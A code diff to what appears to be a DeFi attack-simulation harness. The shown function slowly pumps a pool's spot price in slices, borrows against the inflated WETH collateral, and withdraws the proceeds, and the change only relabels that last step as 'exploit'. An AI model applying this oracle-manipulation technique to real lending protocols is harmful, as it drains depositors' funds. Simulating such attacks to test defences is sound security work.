@@ -220,7 +220,7 @@ def slow_drain_attack(world: HarborWorld, *, slices: int = 40, slice_usd: int = 
     """The spot-pump borrow without a flash loan, in `slices` small steps one block apart: each buys WETH for
     `slice_usd` on the priced pool (a few percent of its depth), pledges it and borrows what the slightly higher
     price allows. Early slices cost more than they borrow; later ones borrow more as every WETH pledged so far is
-    worth more. Steps: deploy and fund (prepare), the slices (payoff), withdraw to the attacker (payoff)."""
+    worth more. Steps: deploy and fund (prepare), the slices (payoff), collect the proceeds (exploit)."""
     usd = world.contract("hUSD")
     _give_usd(world, "attacker", capital)
     found: dict[str, Any] = {"slices": []}
@@ -236,7 +236,7 @@ def slow_drain_attack(world: HarborWorld, *, slices: int = 40, slice_usd: int = 
             spend = min(slice_usd, usd.functions.balanceOf(contract.address).call())
             found["slices"].append(spend)
             yield Tx(f"slice {i + 1}/{slices}: buy, pledge, borrow", "attacker", contract.functions.slice(spend), "payoff")
-        yield Tx("withdraw the proceeds", "attacker", contract.functions.withdraw(), "payoff")
+        yield Tx("collect the proceeds", "attacker", contract.functions.withdraw(), "exploit")
 
     def details() -> dict[str, Any]:
         return found | {"unpaid_debt": _debt(world, found.get("contract")), "spot_after": spot(world, "UniswapWethUsd")}
